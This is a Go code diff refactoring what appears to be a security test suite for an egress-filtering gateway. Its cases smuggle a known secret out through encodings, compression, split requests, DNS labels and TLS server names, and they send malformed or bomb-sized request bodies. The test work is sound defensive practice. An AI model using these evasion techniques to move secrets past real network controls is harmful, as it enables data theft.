@@ -13,7 +13,9 @@ import (
 	"io"
 	"net"
 	"net/url"
+	"slices"
 	"strings"
+	"sync"
 	"time"
 
 	"github.com/andybalholm/brotli"
@@ -221,8 +223,10 @@ func coded(name, coding string, f func(string) string) leak {
 	})
 }
 
-// filler is text in which nothing is found.
-var filler = strings.Repeat("0123456789 the quick brown fox jumps over the lazy dog\n", 2400)
+// filler returns text in which nothing is found.
+var filler = sync.OnceValue(func() string {
+	return strings.Repeat("0123456789 the quick brown fox jumps over the lazy dog\n", 2400)
+})
 
 func pieces(s string, n int) (out []string) {
 	for len(s) > n {
@@ -264,12 +268,17 @@ func places() []leak {
 		one("cookie", func(v string) message { return get("/v1", "Cookie: a=1; b="+v) }),
 		one("date", func(v string) message { return get("/v1", "If-None-Match: \""+v+"\"") }),
 		one("body", func(v string) message { return message{body: `{"key":"` + v + `"}`} }),
-		one("body of unknown length", func(v string) message { return message{chunks: []string{filler, v, filler}} }),
+		one("body of unknown length", func(v string) message { return message{chunks: []string{filler(), v, filler()}} }),
 	}
 }
 
 func secrets() []Attack {
-	as := family("secrets", "W5",
+	return family("secrets", "W5", slices.Concat(secretPlaces(), secretSpellings(), secretPackings(), secretPieces(), secretSplits(), secretNames())...)
+}
+
+// secretPlaces returns the attacks that put the secret into each place of a request.
+func secretPlaces() []Attack {
+	return []Attack{
 		leaks("places", "Send a known secret in the path, the query, headers, cookies, credentials of one's own and the body.", "Pipelock", places()...),
 		leaksBy("http2", "Send it in the same places of HTTP/2, and in a trailer.", "Pipelock", true, append(places(),
 			one("trailer", func(v string) message { return message{chunks: []string{"x"}, trailer: []string{"X-End: " + v}} }))...),
@@ -284,6 +293,12 @@ func secrets() []Attack {
 				return message{head: []string{"X-" + hex.EncodeToString([]byte(v))[:40] + ": 1"}}
 			}),
 		),
+	}
+}
+
+// secretSpellings returns the attacks that write the secret in other characters.
+func secretSpellings() []Attack {
+	return []Attack{
 		leaks("percent", "Write it percent-encoded: wholly, every second byte, twice, in path and query.", "OpenShell#637",
 			one("path", func(v string) message { return message{method: "GET", target: "/v1/" + eachByte("%%%02X", "")(v)} }),
 			one("query", func(v string) message { return message{method: "GET", target: "/v1?q=" + eachByte("%%%02x", "")(v)} }),
@@ -325,6 +340,12 @@ func secrets() []Attack {
 		leaks("turned", "Write it backwards, by ROT13, or as UTF-16.", "Pipelock", inBody(map[string]func(string) string{
 			"backwards": reverse, "rot13": rot13, "utf-16le": eachByte("%c\x00", ""), "utf-16be": eachByte("\x00%c", ""),
 		})...),
+	}
+}
+
+// secretPackings returns the attacks that compress the secret or archive it.
+func secretPackings() []Attack {
+	return []Attack{
 		leaks("codings", "Compress the body, by each coding and by several.", "Pipelock",
 			coded("gzip", "gzip", gzipped), coded("x-gzip", "x-gzip", gzipped), coded("deflate", "deflate", zlibbed), coded("bare deflate", "deflate", flated), coded("brotli", "br", brotlied), coded("zstd", "zstd", zstded),
 			coded("gzip twice", "gzip, gzip", func(s string) string { return gzipped(gzipped(s)) }),
@@ -334,7 +355,7 @@ func secrets() []Attack {
 				return message{head: []string{"Content-Encoding: gzip", "Content-Encoding: br"}, body: brotlied(gzipped("a " + v))}
 			}),
 			one("in pieces", func(v string) message {
-				return message{head: []string{"Content-Encoding: gzip"}, chunks: pieces(gzipped(filler+v), 7)}
+				return message{head: []string{"Content-Encoding: gzip"}, chunks: pieces(gzipped(filler()+v), 7)}
 			}),
 		),
 		leaks("archives", "Compress without saying so: gzip, zlib, zip, tar, a git pack, gzip as base64.", "Pipelock",
@@ -349,6 +370,12 @@ func secrets() []Attack {
 			}),
 			one("base64 of gzip", func(v string) message { return message{body: `{"f":"` + b64(gzipped("see "+v)) + `"}`} }),
 		),
+	}
+}
+
+// secretPieces returns the attacks that lay the secret, or a part of it, over the pieces of one request.
+func secretPieces() []Attack {
+	return []Attack{
 		leaks("parts", "Send only a part of it: the beginning, the end, the middle.", "Pipelock",
 			one("beginning", func(v string) message { return message{body: "k=" + v[:20] + "&"} }),
 			one("end", func(v string) message { return message{body: "k=" + v[len(v)-18:]} }),
@@ -360,10 +387,10 @@ func secrets() []Attack {
 			one("after 64 KiB", func(v string) message {
 				return message{chunks: []string{strings.Repeat("x ", 32<<10)[:65530], v, " end"}}
 			}),
-			one("after 16 KiB", func(v string) message { return message{body: strings.Repeat("y ", 8<<10)[:16370] + v + filler} }),
-			one("at the end", func(v string) message { return message{body: filler + v} }),
+			one("after 16 KiB", func(v string) message { return message{body: strings.Repeat("y ", 8<<10)[:16370] + v + filler()} }),
+			one("at the end", func(v string) message { return message{body: filler() + v} }),
 			one("a file of a form", func(v string) message {
-				return message{head: []string{"Content-Type: multipart/form-data; boundary=q"}, body: "--q\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(filler[:100]+v) + "\r\n--q--\r\n"}
+				return message{head: []string{"Content-Type: multipart/form-data; boundary=q"}, body: "--q\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(filler()[:100]+v) + "\r\n--q--\r\n"}
 			}),
 		),
 		leaks("fields", "Lay its halves into two fields of one body, or two headers.", "Pipelock",
@@ -391,6 +418,12 @@ func secrets() []Attack {
 				return message{head: []string{"Trailer: " + name}, chunks: []string{"x"}, trailer: []string{name + ": 1"}}
 			}),
 		),
+	}
+}
+
+// secretSplits returns the attacks that spread the secret over several requests.
+func secretSplits() []Attack {
+	return []Attack{
 		leaks("split-requests", "Spread it over several requests.", "Pipelock", leak{"bodies", func(v string) (out []message) {
 			for _, p := range pieces(v, 12) {
 				out = append(out, message{body: "n=" + p + "&"})
@@ -408,7 +441,13 @@ func secrets() []Attack {
 		leaks("split-encoded", "Spread it over requests, each piece written in another way.", "Pipelock", leak{"ways", func(v string) []message {
 			return []message{{body: b64(v[:12])}, {method: "GET", target: "/v1?q=" + hex.EncodeToString([]byte(v[12:24]))}, {body: "k=" + v[24:]}}
 		}}),
-		Attack{ID: "labels", How: "Look up names under a wildcard route that have it as labels: as it is, which loses its case, as hexadecimal digits of either case, as base 32, in several labels.", Defence: "a name is searched like all that leaves before it is looked up outside", Source: "Docker sbx CVE-2026-12039", Judge: ByHost,
+	}
+}
+
+// secretNames returns the attacks that have the secret in names of hosts.
+func secretNames() []Attack {
+	return []Attack{
+		{ID: "labels", How: "Look up names under a wildcard route that have it as labels: as it is, which loses its case, as hexadecimal digits of either case, as base 32, in several labels.", Defence: "a name is searched like all that leaves before it is looked up outside", Source: "Docker sbx CVE-2026-12039", Judge: ByHost,
 			Control: func(e *Env) error {
 				_, err := net.LookupHost("x" + hex.EncodeToString([]byte(harmless))[:48] + "." + e.Wild)
 				if err == nil {
@@ -441,7 +480,7 @@ func secrets() []Attack {
 				}
 				return e.atOnce(tries...)
 			}},
-		Attack{ID: "server-name", How: "Have it as the server name of TLS, on the connection of an innocent name under the same wildcard.", Defence: "the server name is the name of the connection, or it is refused", Source: "microsandbox#694", Judge: ByHost,
+		{ID: "server-name", How: "Have it as the server name of TLS, on the connection of an innocent name under the same wildcard.", Defence: "the server name is the name of the connection, or it is refused", Source: "microsandbox#694", Judge: ByHost,
 			Control: func(e *Env) error { return hello(e.LeakWild, hostOf(e.LeakWild)) },
 			Try: func(e *Env) error {
 				v, err := e.watched("secrets/server-name")
@@ -450,8 +489,7 @@ func secrets() []Attack {
 				}
 				return e.atOnce(each([]string{hex.EncodeToString([]byte(v))[:60] + "." + e.Wild, strings.ToLower(v) + "." + e.Wild}, func(n string) error { return hello(e.LeakWild, n) })...)
 			}},
-	)
-	return as
+	}
 }
 
 // badBody is an attack by bodies that can't be looked at and must not pass whole.
@@ -486,57 +524,70 @@ func encodedAs(coding, body string) message {
 	return message{head: []string{"Content-Encoding: " + coding}, body: body}
 }
 
-// held is how much more than upstream reads a sender may get rid of, in bytes:
+// held is the number of bytes beyond those read by upstream that a sender may write:
 // what sockets, lanes and the gateway's own buffers have room for.
 const held = 24 << 20
 
+// ordinary is a text that no rule is about.
+const ordinary = "a text that is nothing special\n"
+
 func bodies() []Attack {
-	text := "a text that is nothing special\n"
-	return family("bodies", "W6",
-		badBody("unknown-coding", "Say a coding that nobody knows, or write one's name so that only some read it.", "a body that can't be decoded is refused", []message{encodedAs("gzip", gzipped(text)), encodedAs("identity", text), encodedAs("", text)}, func() (out []message) {
+	return family("bodies", "W6", slices.Concat(codedBodies(), bodyLengths(), codedReplies())...)
+}
+
+// codedBodies returns the attacks by bodies whose coding can't be undone.
+func codedBodies() []Attack {
+	return []Attack{
+		badBody("unknown-coding", "Say a coding that nobody knows, or write one's name so that only some read it.", "a body that can't be decoded is refused", []message{encodedAs("gzip", gzipped(ordinary)), encodedAs("identity", ordinary), encodedAs("", ordinary)}, func() (out []message) {
 			for _, c := range []string{"x-secret", "compress", "aes128gcm", "gzip;q=1", "gzip gzip", "\"gzip\"", "gzip,x", "none", "utf-8"} {
-				out = append(out, encodedAs(c, gzipped(text)))
+				out = append(out, encodedAs(c, gzipped(ordinary)))
 			}
 			return out
 		}),
-		badBody("lists", "Say more codings than are looked into, in one header and in several.", "codings are undone to a depth of three", []message{encodedAs("gzip, br, zstd", zstded(brotlied(gzipped(text))))}, func() []message {
-			deep := gzipped(gzipped(gzipped(gzipped(text))))
+		badBody("lists", "Say more codings than are looked into, in one header and in several.", "codings are undone to a depth of three", []message{encodedAs("gzip, br, zstd", zstded(brotlied(gzipped(ordinary))))}, func() []message {
+			deep := gzipped(gzipped(gzipped(gzipped(ordinary))))
 			return []message{encodedAs("gzip, gzip, gzip, gzip", deep), {head: []string{"Content-Encoding: gzip, gzip", "Content-Encoding: gzip", "Content-Encoding: gzip"}, body: deep}, encodedAs(strings.Repeat("gzip,", 100)+"gzip", deep)}
 		}),
-		badBody("not-what-it-says", "Say a coding in which the body is not.", "a body that can't be decoded is refused", []message{encodedAs("br", brotlied(text)), encodedAs("zstd", zstded(text)), encodedAs("deflate", zlibbed(text))}, func() []message {
-			return []message{encodedAs("gzip", text), encodedAs("gzip", brotlied(text)), encodedAs("zstd", text), encodedAs("deflate", gzipped(text)), encodedAs("gzip, gzip", gzipped(text))}
+		badBody("not-what-it-says", "Say a coding in which the body is not.", "a body that can't be decoded is refused", []message{encodedAs("br", brotlied(ordinary)), encodedAs("zstd", zstded(ordinary)), encodedAs("deflate", zlibbed(ordinary))}, func() []message {
+			return []message{encodedAs("gzip", ordinary), encodedAs("gzip", brotlied(ordinary)), encodedAs("zstd", ordinary), encodedAs("deflate", gzipped(ordinary)), encodedAs("gzip, gzip", gzipped(ordinary))}
 		}),
-		badBody("cut", "End a compressed body before its end.", "what is cut off is refused with what came last", []message{encodedAs("gzip", gzipped(text))}, func() []message {
-			g, z := gzipped(filler), zstded(filler)
-			return []message{encodedAs("gzip", g[:len(g)-1]), encodedAs("gzip", g[:len(g)/2]), encodedAs("gzip", g[:5]), encodedAs("zstd", z[:len(z)-2]), encodedAs("deflate", zlibbed(filler)[:20]), {head: []string{"Content-Encoding: gzip"}, chunks: []string{g[:len(g)-9]}}}
+		badBody("cut", "End a compressed body before its end.", "what is cut off is refused with what came last", []message{encodedAs("gzip", gzipped(ordinary))}, func() []message {
+			g, z := gzipped(filler()), zstded(filler())
+			return []message{encodedAs("gzip", g[:len(g)-1]), encodedAs("gzip", g[:len(g)/2]), encodedAs("gzip", g[:5]), encodedAs("zstd", z[:len(z)-2]), encodedAs("deflate", zlibbed(filler())[:20]), {head: []string{"Content-Encoding: gzip"}, chunks: []string{g[:len(g)-9]}}}
 		}),
-		badBody("what-follows", "Let something follow the end of a compressed body.", "bytes after a coding's end are refused", []message{encodedAs("gzip", gzipped(text))}, func() []message {
-			return []message{encodedAs("gzip", gzipped(text)+"more"), encodedAs("br", brotlied(text)+"\x00"), encodedAs("deflate", zlibbed(text)+"and more"), {head: []string{"Content-Encoding: gzip"}, chunks: []string{gzipped(text), "more"}}}
+		badBody("what-follows", "Let something follow the end of a compressed body.", "bytes after a coding's end are refused", []message{encodedAs("gzip", gzipped(ordinary))}, func() []message {
+			return []message{encodedAs("gzip", gzipped(ordinary)+"more"), encodedAs("br", brotlied(ordinary)+"\x00"), encodedAs("deflate", zlibbed(ordinary)+"and more"), {head: []string{"Content-Encoding: gzip"}, chunks: []string{gzipped(ordinary), "more"}}}
 		}),
-		badBody("broken-checks", "Change a checksum, or a length, of a compressed body.", "a body that can't be decoded is refused", []message{encodedAs("gzip", gzipped(text))}, func() []message {
-			g, z := []byte(gzipped(text)), []byte(zlibbed(text))
+		badBody("broken-checks", "Change a checksum, or a length, of a compressed body.", "a body that can't be decoded is refused", []message{encodedAs("gzip", gzipped(ordinary))}, func() []message {
+			g, z := []byte(gzipped(ordinary)), []byte(zlibbed(ordinary))
 			g[len(g)-6] ^= 1
 			z[len(z)-1] ^= 1
-			l := []byte(gzipped(text))
+			l := []byte(gzipped(ordinary))
 			l[len(l)-1] ^= 0x40
 			return []message{encodedAs("gzip", string(g)), encodedAs("deflate", string(z)), encodedAs("gzip", string(l))}
 		}),
-		badBody("bombs", "Send what is a thousand times as large when it is undone, alone and inside one another.", "what decoders make is bounded", []message{encodedAs("gzip", gzipped(strings.Repeat(text, 1000)))}, func() []message {
+		badBody("bombs", "Send what is a thousand times as large when it is undone, alone and inside one another.", "what decoders make is bounded", []message{encodedAs("gzip", gzipped(strings.Repeat(ordinary, 1000)))}, func() []message {
 			zeros := strings.Repeat("\x00", 20<<20)
 			g := gzipped(zeros)
 			return []message{encodedAs("gzip", g), encodedAs("gzip, gzip", gzipped(g)), encodedAs("zstd", zstded(zeros)), {body: g}}
 		}),
+	}
+}
+
+// bodyLengths returns the attacks by bodies that are not as long as they say.
+func bodyLengths() []Attack {
+	return []Attack{
 		badBody("lengths", "Announce a length that is not the body's.", "a body is passed on as far as it was sent; framing with two readings is refused", []message{{body: "four"}}, func() []message {
 			return []message{
 				{head: []string{"Content-Length: 4", "Content-Length: 5"}, raw: "hello"}, {head: []string{"Content-Length: 4, 4"}, raw: "four"}, {head: []string{"Content-Length: -1"}, raw: "x"}, {head: []string{"Content-Length: 0x4"}, raw: "four"},
 				{head: []string{"Content-Length: 4", "Transfer-Encoding: chunked"}, raw: "0\r\n\r\n"}, {head: []string{"Transfer-Encoding: gzip, chunked"}, raw: "0\r\n\r\n"}, {head: []string{"Content-Length: 99999999999999999999"}, raw: "x"},
 			}
 		}),
-		Attack{ID: "short-body", How: "Announce more than is sent, and hang up.", Defence: "what was cut off does not look complete", Source: "generic", Judge: ByHost,
+		{ID: "short-body", How: "Announce more than is sent, and hang up.", Defence: "what was cut off does not look complete", Source: "generic", Judge: ByHost,
 			Control: func(e *Env) error {
 				s := speakTo(e.Leak)
 				defer s.close()
-				_, err := s.send(&message{body: filler}, markOf("control", "short", 1, 1))
+				_, err := s.send(&message{body: filler()}, markOf("control", "short", 1, 1))
 				return err
 			},
 			Try: func(e *Env) error {
@@ -551,15 +602,15 @@ func bodies() []Attack {
 					if strings.HasPrefix(h, "T") {
 						fmt.Fprintf(s.conn, "%x\r\n", 400000)
 					}
-					io.WriteString(s.conn, filler)
+					io.WriteString(s.conn, filler())
 					return errors.New("hung up in the middle")
 				})...)
 			}},
-		Attack{ID: "endless", How: "Send without an end to a server that has stopped reading.", Defence: "bodies stream: what upstream does not take, the gateway does not either", Source: "generic", Judge: ByWord,
+		{ID: "endless", How: "Send without an end to a server that has stopped reading.", Defence: "bodies stream: what upstream does not take, the gateway does not either", Source: "generic", Judge: ByWord,
 			Control: func(e *Env) error {
 				s := speakTo(e.Leak)
 				defer s.close()
-				_, err := s.send(&message{chunks: pieces(strings.Repeat(filler, 4), 64<<10)}, markOf("control", "endless", 1, 1))
+				_, err := s.send(&message{chunks: pieces(strings.Repeat(filler(), 4), 64<<10)}, markOf("control", "endless", 1, 1))
 				return err
 			},
 			Try: func(e *Env) error {
@@ -570,7 +621,7 @@ func bodies() []Attack {
 				}
 				s.conn.SetDeadline(time.Now().Add(netPatience))
 				fmt.Fprintf(s.conn, "POST /v1/stall HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n", s.addr)
-				piece := filler[:60<<10]
+				piece := filler()[:60<<10]
 				text := fmt.Sprintf("%x\r\n%s\r\n", len(piece), piece)
 				for n := 0; n < held; n += len(piece) {
 					// Slow is not stopped: the wait is long for a machine that is busy.
@@ -581,7 +632,13 @@ func bodies() []Attack {
 				}
 				return nil
 			}},
-		Attack{ID: "replies", How: "Have a server answer with text in a coding that nobody knows, or that is not what it says.", Defence: "an answer that can't be looked at does not enter", Source: "mitmproxy", Judge: ByWord,
+	}
+}
+
+// codedReplies returns the attack by answers whose coding can't be undone.
+func codedReplies() []Attack {
+	return []Attack{
+		{ID: "replies", How: "Have a server answer with text in a coding that nobody knows, or that is not what it says.", Defence: "an answer that can't be looked at does not enter", Source: "mitmproxy", Judge: ByWord,
 			Control: func(e *Env) error {
 				s := speakTo(e.Leak)
 				defer s.close()
@@ -601,5 +658,5 @@ func bodies() []Attack {
 					return err
 				})...)
 			}},
-	)
+	}
 }
